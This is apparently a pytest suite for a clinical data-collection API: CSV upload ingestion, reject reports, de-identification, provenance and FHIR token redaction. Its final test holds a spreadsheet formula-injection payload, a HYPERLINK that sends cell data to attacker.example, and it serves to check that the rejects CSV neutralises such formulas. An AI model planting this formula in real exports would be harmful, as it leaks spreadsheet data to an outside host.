"""Collection over HTTP: a CSV upload with good and bad rows loads the good ones and reports
each bad one with its row and reason; collecting again changes nothing; an updated row updates
our record; a research-only source is de-identified on ingest; a bad config is a 422 naming
the field, and no job is made."""

from __future__ import annotations

import csv
import hashlib
import io

import pytest
from sqlalchemy import text

from tests.support.auth import bearer, on_app_loop
from tests.support.jobs import finished

HEADER = "PatientID,MRN,FirstName,DOB,Sex,Histology,Morphology,Site,Location,DxDate,Vital,LastSeen\n"
GOOD_1 = (
    "p1,MRN-1,Amir,1955-02-01,male,squamous_cell_carcinoma,8070/3,C15.4,middle,2022-05-01,alive,2024-01-01\n"
)
GOOD_2 = "p2,MRN-2,Sara,1960-07-09,female,adenocarcinoma,8140/3,C15.5,lower,2021-03-15,alive,2023-02-01\n"
BAD_DATE = (
    "p3,MRN-3,Ali,1950-13-40,male,squamous_cell_carcinoma,8070/3,C15.4,middle,2022-05-01,alive,2024-01-01\n"
)
BAD_CODE = "p4,MRN-4,Nima,1950-01-01,male,adenocarcinoma,8070/3,C15.4,middle,2022-05-01,alive,2024-01-01\n"
MAPPING = {
    "source_record_id": "PatientID",
    "mrn": "MRN",
    "given_name": "FirstName",
    "birth_date": "DOB",
    "sex": "Sex",
    "histology": "Histology",
    "condition.morphology_code": "Morphology",
    "condition.topography_code": "Site",
    "location": "Location",
    "diagnosis_date": "DxDate",
    "vital_status": "Vital",
    "outcome.last_follow_up": "LastSeen",
}


@pytest.fixture(autouse=True)
def _replay(replay_sources_allowed):
    """The replay servers on 127.0.0.1 over http, allowed explicitly."""


@pytest.fixture
async def steward(client):
    return await bearer(client, client.app, "steward.col", ["data_steward"])


async def upload(client, headers, body: str) -> str:
    response = await client.post(
        "/api/v1/collection/uploads?filename=cohort.csv",
        content=body.encode(),
        headers={**headers, "Content-Type": "text/csv"},
    )
    assert response.status_code == 201, response.text
    return response.json()["id"]


async def collect(client, headers, upload_id: str, *, source="hospital-a", research_only=False) -> dict:
    config = {"upload_id": upload_id, "format": "csv", "mapping": MAPPING, "page_size": 2}
    submitted = await client.post(
        "/api/v1/collection/jobs",
        json={"connector": "upload", "source": source, "config": config, "research_only": research_only},
        headers=headers,
    )
    assert submitted.status_code == 202, submitted.text
    return await finished(client, f"/api/v1/collection/jobs/{submitted.json()['id']}", headers, poll=0.1)


async def stored(client, source: str) -> list[dict]:
    async def rows() -> list[dict]:
        async with client.app.state.services.db.sessions() as s:
            found = await s.execute(
                text(
                    "SELECT id, version, source_record_id, origin, mrn, given_name FROM patients "
                    "WHERE source = :source ORDER BY source_record_id"
                ),
                {"source": source},
            )
            return [dict(r._mapping) for r in found]

    return await on_app_loop(client.app, rows())


async def test_the_connectors_are_listed_with_their_config_schema(client, steward):
    response = await client.get("/api/v1/collection/sources", headers=steward)

    assert response.status_code == 200, response.text
    assert response.json()["next_cursor"] is None
    upload_source = next(s for s in response.json()["items"] if s["name"] == "upload")
    assert "upload_id" in str(upload_source["config_schema"])


async def test_good_rows_load_and_each_bad_row_is_reported_with_its_row_and_reason(client, steward):
    upload_id = await upload(client, steward, HEADER + GOOD_1 + BAD_DATE + GOOD_2 + BAD_CODE)

    job = await collect(client, steward, upload_id)

    assert job["status"] == "succeeded", job
    assert {k: job["counts"][k] for k in ("read", "accepted", "rejected", "duplicates")} == {
        "read": 4,
        "accepted": 2,
        "rejected": 2,
        "duplicates": 0,
    }
    rows = await stored(client, "hospital-a")
    assert [r["source_record_id"] for r in rows] == ["p1", "p2"]
    assert {r["origin"] for r in rows} == {"real"}
    report = await client.get(f"/api/v1/collection/jobs/{job['id']}/rejects", headers=steward)
    assert report.status_code == 200
    assert report.headers["content-type"].startswith("text/csv")
    lines = report.text.splitlines()
    assert lines[0] == "location,source_id,field,message"
    assert any(line.startswith("row 3,p3,birth_date,") for line in lines), report.text
    assert any(line.startswith("row 5,p4,conditions[0].morphology_code,") for line in lines), report.text


async def test_collecting_the_same_file_twice_changes_nothing_the_second_time(client, steward):
    upload_id = await upload(client, steward, HEADER + GOOD_1 + GOOD_2)
    await collect(client, steward, upload_id)
    before = await stored(client, "hospital-a")

    again = await collect(client, steward, upload_id)

    assert again["status"] == "succeeded", again
    assert again["counts"]["accepted"] == 0
    assert again["counts"]["duplicates"] == 2
    assert await stored(client, "hospital-a") == before


async def test_an_updated_source_row_updates_our_record_in_place(client, steward):
    await collect(client, steward, await upload(client, steward, HEADER + GOOD_1 + GOOD_2))
    before = {r["source_record_id"]: r for r in await stored(client, "hospital-a")}

    job = await collect(
        client, steward, await upload(client, steward, HEADER + GOOD_1.replace("Amir", "Amir-Ali"))
    )

    assert job["counts"]["updated"] == 1, job
    after = {r["source_record_id"]: r for r in await stored(client, "hospital-a")}
    assert after["p1"]["id"] == before["p1"]["id"]
    assert after["p1"]["version"] == before["p1"]["version"] + 1
    patient = (await client.get(f"/api/v1/patients/{after['p1']['id']}", headers=steward)).json()
    assert patient["given_name"] == "Amir-Ali"
    assert after["p2"] == before["p2"]


async def test_a_research_only_source_is_de_identified_on_ingest(client, steward):
    job = await collect(
        client,
        steward,
        await upload(client, steward, HEADER + GOOD_1),
        source="research-a",
        research_only=True,
    )

    assert job["status"] == "succeeded", job
    [row] = await stored(client, "research-a")
    assert row["mrn"] is None
    assert row["given_name"] is None
    assert row["source_record_id"].startswith("R-")
    patient = (await client.get(f"/api/v1/patients/{row['id']}", headers=steward)).json()
    assert patient["birth_date"] != "1955-02-01"


async def test_a_recent_record_that_de_identification_would_date_in_the_future_is_a_reject(client, steward):
    today = client.app.state.services.clock.now().date()
    rows = "".join(
        f"r{i},MRN-R{i},Reza,1960-01-0{1 + i % 9},male,squamous_cell_carcinoma,8070/3,C15.4,middle,"
        f"{today.replace(day=1).isoformat()},alive,{today.isoformat()}\n"
        for i in range(12)
    )
    job = await collect(
        client, steward, await upload(client, steward, HEADER + rows), source="research-b", research_only=True
    )

    # each patient's offset is its own, so some are shifted back (kept) and some forward (refused)
    assert job["status"] == "succeeded", job
    assert job["counts"]["accepted"] + job["counts"]["rejected"] == 12
    assert job["counts"]["rejected"] > 0, job
    report = (await client.get(f"/api/v1/collection/jobs/{job['id']}/rejects", headers=steward)).text
    assert report.count("once de-identified") == job["counts"]["rejected"]
    assert len(await stored(client, "research-b")) == job["counts"]["accepted"]


async def test_provenance_is_kept_with_the_raw_upload_checksum(client, steward):
    body = HEADER + GOOD_1
    upload_id = await upload(client, steward, body)

    job = await collect(client, steward, upload_id)

    dataset = (await client.get(f"/api/v1/datasets/{job['id']}", headers=steward)).json()

    assert dataset["origin"] == "real"
    assert dataset["source"] == "hospital-a"
    assert dataset["counts"]["accepted"] == 1
    assert dataset["payloads"][0]["sha256"] == hashlib.sha256(body.encode()).hexdigest()
    assert dataset["started_at"]
    assert dataset["finished_at"]


async def test_a_bad_config_is_refused_naming_the_field_and_no_job_is_made(client, steward):
    upload_id = await upload(client, steward, HEADER + GOOD_1)
    before = (await client.get("/api/v1/collection/jobs", headers=steward)).json()["items"]

    bad_format = await client.post(
        "/api/v1/collection/jobs",
        json={"connector": "upload", "source": "h", "config": {"upload_id": upload_id, "format": "xlsx"}},
        headers=steward,
    )
    no_id = await client.post(
        "/api/v1/collection/jobs",
        json={
            "connector": "upload",
            "source": "h",
            "config": {"upload_id": upload_id, "format": "csv", "mapping": {"mrn": "MRN"}},
        },
        headers=steward,
    )

    assert bad_format.status_code == 422, bad_format.text
    assert bad_format.json()["errors"][0]["field"] == "config.format"
    assert no_id.status_code == 422, no_id.text
    assert no_id.json()["errors"][0]["field"] == "config.mapping"
    assert (await client.get("/api/v1/collection/jobs", headers=steward)).json()["items"] == before


async def test_a_fhir_server_is_collected_page_by_page_and_its_token_is_never_shown(client, steward):
    from tests.modules.collection.test_fhir import resources_of
    from tests.support.fhir_server import FhirServer

    ehr = FhirServer(resources_of(3), page_size=2)
    try:
        submitted = await client.post(
            "/api/v1/collection/jobs",
            json={
                "connector": "fhir",
                "source": "ehr-a",
                "config": {"base_url": ehr.base, "token": ehr.token, "page_size": 2},
            },
            headers=steward,
        )
        assert submitted.status_code == 202, submitted.text
        job = await finished(client, f"/api/v1/collection/jobs/{submitted.json()['id']}", steward, poll=0.1)
    finally:
        ehr.close()

    assert job["status"] == "succeeded", job
    assert job["counts"]["accepted"] == 3, job
    assert ehr.token not in str(job["params"])
    dataset = (await client.get(f"/api/v1/datasets/{job['id']}", headers=steward)).json()
    assert dataset["config"]["token"] == "<removed>"
    assert len(dataset["payloads"]) == 2
    assert all(len(p["sha256"]) == 64 for p in dataset["payloads"])


async def test_a_formula_in_a_rejected_row_is_defused_in_the_rejects_csv(client, steward):
    formula = '=HYPERLINK("http://attacker.example/?x="&A1,"Open")'
    quoted = formula.replace('"', '""')
    rest = "MRN-9,@SUM(1+1),1950-13-40,male,squamous_cell_carcinoma,8070/3,C15.4,middle,2022-05-01,"
    rest += "alive,2024-01-01"
    bad = f'"{quoted}",{rest}\n'
    upload_id = await upload(client, steward, HEADER + bad)

    job = await collect(client, steward, upload_id)
    report = await client.get(f"/api/v1/collection/jobs/{job['id']}/rejects", headers=steward)

    rows = list(csv.reader(io.StringIO(report.text)))
    assert job["counts"]["rejected"] == 1, job
    assert rows[1][:3] == ["row 2", "'" + formula, "birth_date"]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
